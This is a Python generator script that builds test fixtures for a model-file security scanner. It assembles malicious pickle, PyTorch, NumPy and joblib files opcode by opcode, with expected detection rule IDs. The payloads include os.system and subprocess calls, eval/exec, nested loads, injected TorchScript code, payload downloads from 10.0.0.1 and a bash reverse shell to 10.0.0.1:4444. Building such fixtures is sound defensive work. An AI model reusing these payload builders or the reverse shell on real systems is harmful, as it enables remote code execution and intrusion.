#!/usr/bin/python3
"""Writes the pickle, PyTorch, NumPy and joblib fixtures and samples.

Malicious pickles are assembled opcode by opcode: nothing here ever unpickles anything, and no
object whose reduction runs code is pickled. Every hand-built stream that is meant to be valid is
checked with pickletools.dis, which only decodes.

PyTorch's legacy format names storages by object id and TorchScript archives carry
serialization ids, so those fixtures differ byte-wise between runs while meaning the same.

Run through generate_all.sh (needs /usr/bin/python3 with python3-torch and python3-numpy).
"""
import argparse
import bz2
import collections
import datetime
import decimal
import fractions
import gzip
import io
import json
import lzma
import os
import pathlib
import pickle
import pickletools
import random
import struct
import sys
import types
import uuid
import zipfile
import zlib

import numpy as np
import torch

HERE = pathlib.Path(__file__).resolve().parent
FIXTURES = HERE.parent / "resources" / "fixtures"
SAMPLES = HERE.parent.parent.parent / "samples"
EXPECTED = collections.defaultdict(dict)
ZIP_DATE = (2020, 1, 1, 0, 0, 0)

# ---------------------------------------------------------------- opcode assembly


def proto(n):
    return b"\x80" + bytes([n])


def glob(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def inst(module, name):
    return b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def sbu(s):
    b = s.encode()
    assert len(b) < 256
    return b"\x8c" + bytes([len(b)]) + b


def bu(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def sbs(s):
    b = s.encode()
    return b"U" + bytes([len(b)]) + b


def s0(s):
    assert "'" not in s and "\n" not in s
    return b"S'" + s.encode() + b"'\n"


def sbb(b):
    return b"C" + bytes([len(b)]) + b


def binput(i):
    return b"q" + bytes([i])


def binget(i):
    return b"h" + bytes([i])


def long_binput(i):
    return b"r" + struct.pack("<I", i)


def long_binget(i):
    return b"j" + struct.pack("<I", i)


MARK, STOP, TUPLE, REDUCE, BUILD, POP = b"(", b".", b"t", b"R", b"b", b"0"
EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE, APPENDS, SETITEMS = b"}", b"]", b")", b"e", b"u"
TUPLE1, TUPLE2, NEWOBJ, NEWOBJ_EX, STACK_GLOBAL, MEMOIZE = (
    b"\x85",
    b"\x86",
    b"\x81",
    b"\x92",
    b"\x93",
    b"\x94",
)
NONE, OBJ = b"N", b"o"


def frame4(body, version=4):
    """PROTO 4/5 with one FRAME around the body, as CPython writes it."""
    return proto(version) + b"\x95" + struct.pack("<Q", len(body)) + body


def call_p2(module, name, *args):
    return proto(2) + glob(module, name) + MARK + b"".join(bu(a) for a in args) + TUPLE + REDUCE + STOP


def call_p0(module, name, *args):
    return glob(module, name) + MARK + b"".join(s0(a) for a in args) + TUPLE + REDUCE + STOP


def call_p1(module, name, *args):
    return glob(module, name) + MARK + b"".join(sbs(a) for a in args) + TUPLE + REDUCE + STOP


def call_p4(module, name, *args, version=4):
    body = (
        sbu(module) + MEMOIZE + sbu(name) + MEMOIZE + STACK_GLOBAL + MEMOIZE
        + MARK + b"".join(sbu(a) + MEMOIZE for a in args) + TUPLE + MEMOIZE + REDUCE + MEMOIZE + STOP
    )
    return frame4(body, version)


def valid(data):
    """Decodes (never loads) every stream in data; raises if one is not a well-formed pickle."""
    f = io.BytesIO(data)
    while f.tell() < len(data):
        pickletools.dis(f, out=io.StringIO())
    return data


# ---------------------------------------------------------------- writing


def write(folder, name, data, rules=()):
    path = FIXTURES / folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    if rules:
        key = name if "/" not in name else None
        if key:
            EXPECTED[folder][key] = sorted(set(rules))


def write_sample(kind, name, data):
    path = SAMPLES / kind / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def zip_bytes(entries, method=zipfile.ZIP_STORED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in entries:
            info = zipfile.ZipInfo(name, ZIP_DATE)
            info.compress_type = method
            z.writestr(info, data)
    return out.getvalue()


def zip_entries(data):
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [(i.filename, z.read(i.filename)) for i in z.infolist()]


def patch_zip(data, names, crc=False, flags=0):
    """Corrupts the CRC and/or sets flag bits of entries, in local and central headers."""
    buf = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        infos = {i.filename: i for i in z.infolist()}
    for name in names:
        lho = infos[name].header_offset
        if crc:
            buf[lho + 14 : lho + 18] = b"\xde\xad\xbe\xef"
        if flags:
            f = struct.unpack_from("<H", buf, lho + 6)[0] | flags
            struct.pack_into("<H", buf, lho + 6, f)
    pos = 0
    while True:
        pos = buf.find(b"PK\x01\x02", pos)
        if pos < 0:
            break
        nlen = struct.unpack_from("<H", buf, pos + 28)[0]
        name = bytes(buf[pos + 46 : pos + 46 + nlen]).decode()
        if name in names:
            if crc:
                buf[pos + 16 : pos + 20] = b"\xde\xad\xbe\xef"
            if flags:
                f = struct.unpack_from("<H", buf, pos + 8)[0] | flags
                struct.pack_into("<H", buf, pos + 8, f)
        pos += 4
    return bytes(buf)


# ---------------------------------------------------------------- pickle fixtures

SHELL = "echo sentrascan-fixture"
REVERSE_SHELL = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"

# One fixture per deny-list family (see denylist.json), in varied protocols.
FAMILIES = [
    ("malicious-os-system.pkl", call_p2("os", "system", SHELL)),
    ("malicious-posix-system-p0.txt", call_p0("posix", "system", SHELL)),  # CORE-008 too
    ("malicious-nt-system-p1.bin", call_p1("nt", "system", SHELL)),
    ("malicious-os-popen-noext", call_p2("os", "popen", SHELL)),
    ("malicious-os-path-submodule.pkl", call_p2("os.path", "exists", "/etc/passwd")),
    ("malicious-subprocess-check-output-p4.pkl", call_p4("subprocess", "check_output", SHELL)),
    ("malicious-builtins-eval.ckpt", call_p2("builtins", "eval", "__import__('os').system('id')")),
    ("malicious-builtins-exec-p5.pkl", call_p4("builtins", "exec", "import os", version=5)),
    ("malicious-py2-builtin-eval-p0", call_p0("__builtin__", "eval", "1+1")),
    ("malicious-builtins-open.pkl", call_p2("builtins", "open", "/etc/passwd")),
    ("malicious-builtins-compile.pkl", call_p2("builtins", "compile", "1", "f", "eval")),
    ("malicious-builtins-import.pkl", call_p2("builtins", "__import__", "os")),
    ("malicious-runpy-run-path.pkl", call_p2("runpy", "run_path", "/tmp/x.py")),
    ("malicious-code-interact.pkl", call_p2("code", "interact")),
    ("malicious-codeop-compile.pkl", call_p2("codeop", "compile_command", "1")),
    ("malicious-pty-spawn.pkl", call_p2("pty", "spawn", "/bin/sh")),
    ("malicious-socket-connection.pkl", call_p2("socket", "create_connection", "10.0.0.1")),
    ("malicious-requests-get.pkl", call_p2("requests", "get", "http://10.0.0.1/payload")),
    ("malicious-urllib-urlopen.pkl", call_p2("urllib.request", "urlopen", "http://10.0.0.1/")),
    ("malicious-http-client.pkl", call_p2("http.client", "HTTPConnection", "10.0.0.1")),
    ("malicious-webbrowser-open.pkl", call_p2("webbrowser", "open", "http://10.0.0.1/")),
    ("malicious-ctypes-cdll.pkl", call_p2("ctypes", "CDLL", "libc.so.6")),
    ("malicious-importlib-import-module.pkl", call_p2("importlib", "import_module", "os")),
    ("malicious-pip-main.pkl", call_p2("pip", "main", "install")),
    ("malicious-shutil-rmtree.pkl", call_p2("shutil", "rmtree", "/tmp/x")),
    ("malicious-tempfile.pkl", call_p2("tempfile", "mkstemp")),
    ("malicious-marshal-loads.pkl", proto(2) + glob("marshal", "loads") + sbb(b"\xe3\x00") + TUPLE1 + REDUCE + STOP),
    ("malicious-types-functiontype.pkl", call_p2("types", "FunctionType", "code")),
    ("malicious-nested-pickle-loads.pkl", proto(2) + glob("pickle", "loads") + sbb(call_p2("os", "system", SHELL)) + TUPLE1 + REDUCE + STOP),
    ("malicious-underscore-pickle-loads.pkl", proto(2) + glob("_pickle", "loads") + sbb(b"N.") + TUPLE1 + REDUCE + STOP),
    ("malicious-torch-load-nested.pkl", call_p2("torch", "load", "/tmp/evil.pt")),
    ("malicious-numpy-load.pkl", call_p2("numpy", "load", "/tmp/evil.npy")),
    ("malicious-torch-hub-load.pkl", call_p2("torch.hub", "load", "evil/repo", "model")),
    ("malicious-sys-modules.pkl", proto(2) + glob("sys", "exit") + EMPTY_TUPLE + REDUCE + STOP),
    ("malicious-platform-popen.pkl", call_p2("platform", "popen", SHELL)),
    ("malicious-asyncio-subprocess.pkl", call_p2("asyncio", "create_subprocess_shell", SHELL)),
    ("malicious-multiprocessing.pkl", call_p2("multiprocessing", "Process")),
    ("malicious-signal.pkl", call_p2("signal", "alarm", "1")),
    ("malicious-operator-attrgetter.pkl", call_p2("operator", "attrgetter", "system")),
    ("malicious-operator-methodcaller.pkl", call_p2("operator", "methodcaller", "system")),
    ("malicious-functools-reduce.pkl", call_p2("functools", "reduce", "x")),
    ("malicious-timeit.pkl", call_p2("timeit", "timeit", "__import__('os').system('id')")),
    ("malicious-cprofile-run.pkl", call_p2("cProfile", "run", "import os")),
    ("malicious-pdb-run.pkl", call_p2("pdb", "run", "import os")),
    ("malicious-bdb.pkl", call_p2("bdb", "Bdb")),
    ("malicious-trace.pkl", call_p2("trace", "Trace")),
    ("malicious-doctest.pkl", call_p2("doctest", "debug_script", "import os")),
    ("malicious-numpy-runstring.pkl", call_p2("numpy.testing._private.utils", "runstring", "import os", "x")),
    ("malicious-logging-config-listen.pkl", call_p2("logging.config", "listen")),
    ("malicious-dotted-attribute-p4.pkl", call_p4("pathlib", "os.system", SHELL)),
]


def list_arg_p4(*items):
    return EMPTY_LIST + MEMOIZE + MARK + b"".join(sbu(i) + MEMOIZE for i in items) + APPENDS


def technique_pickles():
    out = []
    # Module and name strings stored in the memo early (inside a harmless tuple), fetched later.
    body = (
        sbu("harmless") + MEMOIZE + sbu("os") + MEMOIZE + sbu("system") + MEMOIZE + TUPLE2 + MEMOIZE + POP
        + POP + binget(1) + binget(2) + STACK_GLOBAL + MEMOIZE
        + sbu(SHELL) + MEMOIZE + TUPLE1 + MEMOIZE + REDUCE + MEMOIZE + STOP
    )
    body = sbu("pad") + MEMOIZE + POP + body  # memo 0 is a decoy
    out.append(("malicious-memo-stack-global.pkl", frame4(body), ["PKL-001"]))
    # The global is memoized with LONG_BINPUT and called much later through LONG_BINGET.
    p = (
        proto(2) + glob("subprocess", "Popen") + long_binput(70000) + POP
        + EMPTY_DICT + bu("lr") + BININT1(3) + b"s"
        + long_binget(70000) + MARK + list_arg_p2("/bin/sh", "-c", SHELL) + TUPLE + REDUCE + b"s"[:0]
        + TUPLE2 + STOP
    )
    out.append(("malicious-memo-long-binget.pkl", p, ["PKL-001"]))
    # protocol 0 INST and protocol 1 OBJ
    out.append(("malicious-inst-p0.pkl", MARK + s0(SHELL) + inst("os", "system") + STOP, ["PKL-001"]))
    out.append(("malicious-obj-p1.pkl", MARK + glob("os", "system") + sbs(SHELL) + OBJ + STOP, ["PKL-001"]))
    out.append(
        (
            "malicious-newobj.pkl",
            proto(2) + glob("subprocess", "Popen") + MARK + list_arg_p2("id") + TUPLE + NEWOBJ + STOP,
            ["PKL-001"],
        )
    )
    body = sbu("subprocess") + sbu("Popen") + STACK_GLOBAL + list_arg_p4("id") + TUPLE1 + EMPTY_DICT + NEWOBJ_EX + STOP
    out.append(("malicious-newobj-ex-p4.pkl", frame4(body), ["PKL-001"]))
    # An unknown class whose __setstate__ runs when BUILD restores it: unknown import, called.
    body = (
        sbu("evilpkg.loader") + sbu("Loader") + STACK_GLOBAL + EMPTY_TUPLE + NEWOBJ
        + EMPTY_DICT + sbu("cmd") + sbu(SHELL) + b"s" + BUILD + STOP
    )
    out.append(("malicious-unknown-class-build-p4.pkl", frame4(body), ["PKL-002"]))
    # An unknown function called with REDUCE.
    out.append(("malicious-unknown-function-called.pkl", call_p2("evilpkg.run", "payload", "x"), ["PKL-002"]))
    # The copyreg extension registry.
    out.append(("malicious-ext1-call.pkl", proto(2) + b"\x82\x01" + MARK + bu("x") + TUPLE + REDUCE + STOP, ["PKL-006"]))
    # STACK_GLOBAL whose module name is computed at load time.
    body = (
        glob("builtins", "str") + sbu("os") + TUPLE1 + REDUCE + sbu("system") + STACK_GLOBAL
        + sbu(SHELL) + TUPLE1 + REDUCE + STOP
    )
    out.append(("malicious-dynamic-stack-global-p4.pkl", frame4(body), ["PKL-008"]))
    # getattr(__import__('os'), 'system')(cmd): the call target is the result of a call.
    p = (
        proto(2) + glob("builtins", "getattr") + MARK + glob("builtins", "__import__") + bu("os") + TUPLE1 + REDUCE
        + bu("system") + TUPLE + REDUCE + bu(SHELL) + TUPLE1 + REDUCE + STOP
    )
    out.append(("malicious-getattr-chain.pkl", p, ["PKL-001"]))
    # dill- and cloudpickle-like streams: functions rebuilt from code objects.
    p = (
        proto(4) + glob("dill._dill", "_create_function") + MARK
        + glob("dill._dill", "_create_code") + MARK + b"K\x00" * 5 + sbb(b"d\x00S\x00") + TUPLE + REDUCE
        + EMPTY_DICT + sbu("f") + NONE + TUPLE + REDUCE + STOP
    )
    out.append(("malicious-dill-function.dill", p, ["PKL-001"]))
    p = (
        proto(4) + glob("cloudpickle.cloudpickle", "_make_function") + MARK
        + glob("cloudpickle.cloudpickle", "_builtin_type") + sbu("CodeType") + TUPLE1 + REDUCE
        + EMPTY_DICT + NONE + NONE + TUPLE + REDUCE + STOP
    )
    out.append(("malicious-cloudpickle-function.pkl", p, ["PKL-001"]))
    return out


def BININT1(n):
    return b"K" + bytes([n])


def list_arg_p2(*items):
    return EMPTY_LIST + MARK + b"".join(bu(i) for i in items) + APPENDS


def benign_values():
    ns = argparse.Namespace(lr=0.1, epochs=3, name="run-1")
    dd = collections.defaultdict(list)
    dd["a"].append(1)
    return {
        "when": datetime.datetime(2024, 5, 1, 12, 30, tzinfo=datetime.timezone.utc),
        "day": datetime.date(2024, 5, 1),
        "delta": datetime.timedelta(seconds=90),
        "price": decimal.Decimal("1.25"),
        "ratio": fractions.Fraction(1, 3),
        "args": ns,
        "ordered": collections.OrderedDict([("x", 1), ("y", 2)]),
        "defaults": dd,
        "queue": collections.deque([1, 2, 3]),
        "counts": collections.Counter("abracadabra"),
        "id": uuid.UUID("12345678-1234-5678-1234-567812345678"),
        "path": pathlib.PurePosixPath("/models/run-1"),
        "local": pathlib.PosixPath("/tmp/x"),
        "set": {1, 2, 3},
        "frozen": frozenset({"a"}),
        "span": slice(1, 10, 2),
        "range": range(5),
        "complex": complex(1, 2),
        "raw": bytearray(b"abc"),
        "bytes": b"\x00\x01",
    }


def fake_class(module, qualname, base=object):
    """A class that pickles by reference under module.qualname (the module is registered here)."""
    parts = module.split(".")
    for i in range(1, len(parts) + 1):
        name = ".".join(parts[:i])
        if name not in sys.modules:
            sys.modules[name] = types.ModuleType(name)
    cls = type(qualname, (base,), {})
    cls.__module__ = module
    cls.__qualname__ = qualname
    setattr(sys.modules[module], qualname, cls)
    return cls


def sklearn_like():
    LogisticRegression = fake_class("sklearn.linear_model._logistic", "LogisticRegression")
    StandardScaler = fake_class("sklearn.preprocessing._data", "StandardScaler")
    Pipeline = fake_class("sklearn.pipeline", "Pipeline")
    scaler = StandardScaler()
    scaler.__dict__.update(
        with_mean=True, with_std=True, mean_=np.arange(4.0), scale_=np.ones(4), n_features_in_=4,
        _sklearn_version="1.3.0",
    )
    clf = LogisticRegression()
    clf.__dict__.update(
        C=1.0, penalty="l2", classes_=np.array([0, 1]), coef_=np.arange(4.0).reshape(1, 4),
        intercept_=np.zeros(1), n_iter_=np.array([7], dtype=np.int32), _sklearn_version="1.3.0",
    )
    pipe = Pipeline()
    pipe.__dict__.update(steps=[("scale", scaler), ("clf", clf)], memory=None, verbose=False)
    return pipe


def gen_pickle():
    folder = "pickle"
    for name, data in FAMILIES:
        write(folder, name, valid(data), ["PKL-001"])
    for name, data, rules in technique_pickles():
        write(folder, name, valid(data), rules)

    # disguised names of one payload
    payload = call_p2("os", "system", SHELL)
    for name in ["malicious-disguised.bin", "malicious-disguised.pt", "malicious-disguised.ckpt", "malicious-disguised"]:
        write(folder, name, payload, ["PKL-001"])
    write(folder, "malicious-disguised.txt", payload, ["PKL-001", "CORE-008"])

    # more than one stream; a stream after garbage
    benign_stream = pickle.dumps({"weights": [1.0, 2.0]}, protocol=2)
    write(folder, "malicious-second-stream.pkl", valid(benign_stream + payload), ["PKL-001", "PKL-004"])
    write(folder, "benign-two-streams.pkl", valid(benign_stream + pickle.dumps([1, 2, 3], protocol=4)), ["PKL-004"])
    rnd = random.Random(7)
    garbage = b"\x00\x01JUNK" + bytes(rnd.choice(range(0x00, 0x7f)) for _ in range(500))
    write(folder, "malicious-garbage-prefix.bin", garbage + payload, ["PKL-001", "PKL-005"])
    raw_floats = np.linspace(0, 1, 256, dtype=np.float32).tobytes()
    write(folder, "malicious-after-raw-data.pkl", benign_stream + raw_floats + call_p4("os", "system", SHELL), ["PKL-001", "PKL-005"])

    # truncated and malformed
    write(folder, "malformed-truncated-after-import.pkl", payload[: payload.index(b"(") + 8], ["PKL-001", "PKL-003"])
    write(folder, "malformed-truncated-benign.pkl", benign_stream[:-5], ["PKL-003"])
    write(folder, "malformed-unknown-opcode.pkl", proto(2) + NONE + b"\xff" + STOP, ["PKL-003"])
    write(folder, "malformed-stack-underflow.pkl", proto(2) + REDUCE + STOP, ["PKL-003"])
    write(folder, "malformed-import-then-garbage-opcode.pkl", proto(2) + glob("os", "system") + b"\xfe" * 8, ["PKL-001", "PKL-003"])
    write(folder, "malformed-payload-past-end.pkl", proto(4) + b"\x8e" + struct.pack("<Q", 1 << 40) + STOP, ["PKL-003"])

    # benign real-world shapes
    plain = {"name": "model", "layers": [1, 2, 3], "scale": 0.5, "flags": (True, False, None), "blob": b"\x00\xff"}
    for p in [0, 1, 2, 3, 4, 5]:
        write(folder, f"benign-plain-dict-p{p}.pkl", pickle.dumps(plain, protocol=p))
    values = benign_values()
    for p in [0, 2, 4, 5]:
        write(folder, f"benign-stdlib-values-p{p}.pkl", pickle.dumps(values, protocol=p))
    arrays = collections.OrderedDict(
        [("w", np.arange(6, dtype=np.float32).reshape(2, 3)), ("b", np.zeros(3)), ("step", np.int64(10)), ("lr", np.float64(0.1))]
    )
    for p in [2, 4, 5]:
        write(folder, f"benign-ordereddict-numpy-p{p}.pkl", pickle.dumps(arrays, protocol=p))
    write(folder, "benign-sklearn-like-pipeline.pkl", pickle.dumps(sklearn_like(), protocol=4))
    write(folder, "benign-no-extension", pickle.dumps({"a": 1}, protocol=2))
    write(folder, "benign-weights.bin", pickle.dumps(list(np.linspace(0, 1, 64).tolist()), protocol=2))


# ---------------------------------------------------------------- joblib emulation


def joblib_classes():
    Wrapper = fake_class("joblib.numpy_pickle", "NumpyArrayWrapper")
    return Wrapper


class Raw:
    """Opcodes to splice into a stream at the point where this object is saved."""

    def __init__(self, data):
        self.data = data


class NumpyPickler(pickle._Pickler):
    """Writes what joblib.dump writes: each array as a NumpyArrayWrapper followed by its bytes."""

    def __init__(self, f, protocol=4, alignment=True, object_override=None):
        super().__init__(f, protocol=protocol)
        self.file_handle = f
        self.alignment = alignment
        self.object_override = object_override
        self.wrapper_cls = joblib_classes()

    def save(self, obj, save_persistent_id=True):
        if isinstance(obj, Raw):
            self.write(obj.data)
            return
        if type(obj) is np.ndarray:
            w = self.wrapper_cls.__new__(self.wrapper_cls)
            w.subclass = np.ndarray
            w.shape = obj.shape
            w.order = "C"
            w.dtype = obj.dtype
            w.allow_mmap = not obj.dtype.hasobject
            if self.alignment:
                w.numpy_array_alignment_bytes = 16
            pickle._Pickler.save(self, w)
            if self.proto >= 4:
                self.framer.commit_frame(force=True)
            self.write_array(obj)
            return
        return pickle._Pickler.save(self, obj, save_persistent_id)

    def write_array(self, array):
        fh = self.file_handle
        if array.dtype.hasobject:
            fh.write(self.object_override or pickle.dumps(array, protocol=2))
            return
        if self.alignment:
            pos = fh.tell() + 1
            pad = 16 - (pos % 16)
            fh.write(bytes([pad]))
            if pad:
                fh.write(b"\xff" * pad)
        fh.write(np.ascontiguousarray(array).tobytes("C"))


def joblib_dump(obj, **kw):
    f = io.BytesIO()
    NumpyPickler(f, **kw).dump(obj)
    return f.getvalue()


def gen_joblib():
    folder = "joblib"
    model = {
        "estimator": sklearn_like(),
        "weights": np.arange(12.0).reshape(3, 4),
        "bias": np.zeros(3, dtype=np.float32),
        "labels": np.array(["cat", "dog"]),
        "ids": np.arange(5, dtype=np.int64),
        "mask": np.array([True, False]),
    }
    benign = joblib_dump(model)
    write(folder, "benign-joblib-arrays.joblib", benign)
    write(folder, "benign-joblib-no-alignment.joblib", joblib_dump(model, alignment=False))
    write(folder, "benign-joblib-protocol2.pkl", joblib_dump(model, protocol=2))
    write(folder, "benign-joblib-object-array.joblib", joblib_dump({"names": np.array(["a", "b"], dtype=object)}))
    evil = Raw(glob("os", "system") + MARK + bu(SHELL) + TUPLE + REDUCE)
    malicious = joblib_dump([np.arange(64.0), evil])
    write(folder, "malicious-joblib-after-array.joblib", malicious, ["PKL-001"])
    write(
        folder,
        "malicious-joblib-object-array.joblib",
        joblib_dump({"x": np.arange(3.0), "names": np.array(["a"], dtype=object)}, object_override=call_p2("os", "system", SHELL)),
        ["PKL-001"],
    )
    # Compressed joblib files. The archive branch's compressed-stream scanner decompresses them
    # and dispatches the content back here; until both branches are merged they are skipped, so
    # they live in a subfolder the corpus test does not walk (see CompressedJoblibFixturesTest).
    for label, compress in [
        ("zlib", lambda b: zlib.compress(b, 3)),
        ("gzip", lambda b: gzip.compress(b, 3, mtime=0)),
        ("bz2", lambda b: bz2.compress(b, 3)),
        ("lzma", lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE)),
        ("xz", lambda b: lzma.compress(b, format=lzma.FORMAT_XZ)),
    ]:
        write(folder, f"compressed/benign-joblib-compressed-{label}.joblib", compress(benign))
        write(folder, f"compressed/malicious-joblib-compressed-{label}.joblib", compress(malicious))


# ---------------------------------------------------------------- pytorch


class Tiny(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(3, 2)

    def forward(self, x):
        return torch.relu(self.fc(x))


def torch_save(obj, legacy=False):
    torch.manual_seed(0)
    f = io.BytesIO()
    torch.save(obj, f, _use_new_zipfile_serialization=not legacy)
    return f.getvalue()


def replace_entry(entries, suffix, data):
    return [(n, data if n.endswith(suffix) else d) for n, d in entries]


def rename_top(entries, new):
    return [(new + n[n.index("/") :], d) for n, d in entries]


def legacy_pickles(data):
    """Splits a legacy checkpoint into its five pickles and the raw storage bytes."""
    f = io.BytesIO(data)
    streams = []
    for _ in range(5):
        start = f.tell()
        pickletools.dis(f, out=io.StringIO())
        streams.append(data[start : f.tell()])
    return streams, data[f.tell() :]


def gen_pytorch():
    folder = "pytorch"
    torch.manual_seed(0)
    sd = Tiny().state_dict()
    zipped = torch_save(sd)
    write(folder, "benign-state-dict.pt", zipped)
    entries = zip_entries(zipped)
    renamed = zip_bytes(rename_top(entries, "my-model_v2"))
    write(folder, "benign-renamed-folder.pt", renamed)
    data_names = [n for n, _ in entries if n.endswith("data.pkl") or "/data/" in n]
    write(folder, "benign-bad-crc.pt", patch_zip(zip_bytes(entries), data_names, crc=True))
    write(folder, "benign-flag-bits.pt", patch_zip(zip_bytes(entries), data_names, flags=0x0006))
    write(folder, "benign-legacy-state-dict.pt", torch_save(sd, legacy=True))
    write(folder, "benign-sequential-model.pt", torch_save(torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU())))
    scripted = torch.jit.script(Tiny())
    f = io.BytesIO()
    torch.jit.save(scripted, f)
    ts = f.getvalue()
    write(folder, "benign-torchscript.pt", ts)

    evil = call_p2("os", "system", SHELL)
    shell = proto(2) + glob("subprocess", "Popen") + MARK + list_arg_p2("/bin/bash", "-c", REVERSE_SHELL) + TUPLE + REDUCE + STOP
    write(folder, "malicious-data-pkl-os-system.pt", zip_bytes(replace_entry(entries, "data.pkl", evil)), ["PKL-001"])
    rev = zip_bytes(replace_entry(entries, "data.pkl", valid(shell)))
    write(folder, "malicious-reverse-shell.pt", rev, ["PKL-001"])
    write(
        folder,
        "malicious-bad-crc-renamed.pt",
        patch_zip(zip_bytes(rename_top(replace_entry(entries, "data.pkl", evil), "weights")), ["weights/data.pkl"], crc=True, flags=0x0006),
        ["PKL-001"],
    )
    write(folder, "malicious-deflated-data-pkl.pt", zip_bytes(replace_entry(entries, "data.pkl", evil), zipfile.ZIP_DEFLATED), ["PKL-001"])
    extra = entries + [("archive/extra/hook.pkl", evil)]
    write(folder, "malicious-extra-pkl-entry.pt", zip_bytes(extra), ["PKL-001"])
    data_pkl = dict(entries)["archive/data.pkl"]
    write(folder, "malicious-data-pkl-appended-stream.pt", zip_bytes(replace_entry(entries, "data.pkl", data_pkl + evil)), ["PKL-001", "PKL-004"])
    write(folder, "malformed-truncated-data-pkl.pt", zip_bytes(replace_entry(entries, "data.pkl", data_pkl[: len(data_pkl) // 2])), ["PKL-003"])

    ts_entries = zip_entries(ts)
    write(folder, "malicious-torchscript-constants.pt", zip_bytes(replace_entry(ts_entries, "constants.pkl", evil)), ["PKL-001"])
    code_name = next(n for n, _ in ts_entries if "/code/" in n and n.endswith(".py"))
    code = dict(ts_entries)[code_name].decode()
    code += "\ndef _hook(self) -> None:\n  _0 = __import__(\"os\").system(\"id\")\n  return torch.ops.evil_ns.run(self)\n"
    write(folder, "malicious-torchscript-code.pt", zip_bytes(replace_entry(ts_entries, code_name, code.encode())), ["PT-002", "PT-001"])

    legacy = torch_save(sd, legacy=True)
    streams, raw = legacy_pickles(legacy)
    write(folder, "malicious-legacy-model-pickle.pt", b"".join(streams[:3]) + evil + streams[4] + raw, ["PKL-001"])
    write(folder, "malicious-legacy-appended.pt", legacy + call_p4("os", "system", SHELL), ["PKL-001", "PKL-005"])

    write_sample("benign", "state_dict.pt", zipped)
    write_sample("malicious", "pytorch_model.pt", rev)
    write_sample("malicious", "model.bin", evil)


# ---------------------------------------------------------------- numpy


def npy(array, allow_pickle=False):
    f = io.BytesIO()
    np.save(f, array, allow_pickle=allow_pickle)
    return f.getvalue()


def npy_object_header(shape=(1,)):
    """A version 1.0 header for an object array, padded like numpy pads it."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': %s, }" % (repr(tuple(shape)),)
    total = 10 + len(header) + 1
    header += " " * ((64 - total % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1")


def npz(members, compressed=False):
    f = io.BytesIO()
    with zipfile.ZipFile(f, "w", zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, ZIP_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED
            z.writestr(info, data)
    return f.getvalue()


def gen_numpy():
    folder = "numpy"
    floats = np.arange(12, dtype=np.float64).reshape(3, 4)
    ints = np.arange(10, dtype=np.int32)
    write(folder, "benign-float-matrix.npy", npy(floats))
    write(folder, "benign-int-vector.npy", npy(ints))
    write(folder, "benign-fortran-order.npy", npy(np.asfortranarray(floats)))
    write(folder, "benign-unicode.npy", npy(np.array(["ab", "cde"])))
    write(folder, "benign-structured.npy", npy(np.zeros(2, dtype=[("x", "<f4"), ("y", "<i8")])))
    write(folder, "benign-object-strings.npy", npy(np.array(["a", "b"], dtype=object), allow_pickle=True), ["NPY-001"])
    write(folder, "benign-arrays.npz", npz([("w.npy", npy(floats)), ("b.npy", npy(ints))]))
    write(folder, "benign-arrays-compressed.npz", npz([("w.npy", npy(floats)), ("b.npy", npy(ints))], compressed=True))
    evil = call_p2("os", "system", SHELL)
    write(folder, "malicious-object-os-system.npy", npy_object_header() + evil, ["NPY-001", "PKL-001"])
    write(folder, "malicious-npz-object-member.npz", npz([("w.npy", npy(floats)), ("evil.npy", npy_object_header() + evil)]), ["PKL-001"])
    write(folder, "malicious-npy-appended-pickle.npy", npy(floats) + evil, ["NPY-002", "PKL-001", "PKL-005"])
    write(folder, "malformed-truncated-data.npy", npy(floats)[:-16], ["CORE-001"])
    write(folder, "malformed-bad-header.npy", b"\x93NUMPY\x01\x00\x10\x00{'nothing': 1}\n", ["CORE-001"])
    write_sample("benign", "weights.npy", npy(floats))
    write_sample("malicious", "object_array.npy", npy_object_header() + evil)


def main():
    gen_pickle()
    gen_joblib()
    gen_pytorch()
    gen_numpy()
    write_sample("benign", "config.pkl", pickle.dumps(benign_values(), protocol=4))
    for folder, rules in EXPECTED.items():
        path = FIXTURES / folder / "expected-rules.json"
        path.write_text(json.dumps(dict(sorted(rules.items())), indent=2) + "\n")


if __name__ == "__main__":
    main()
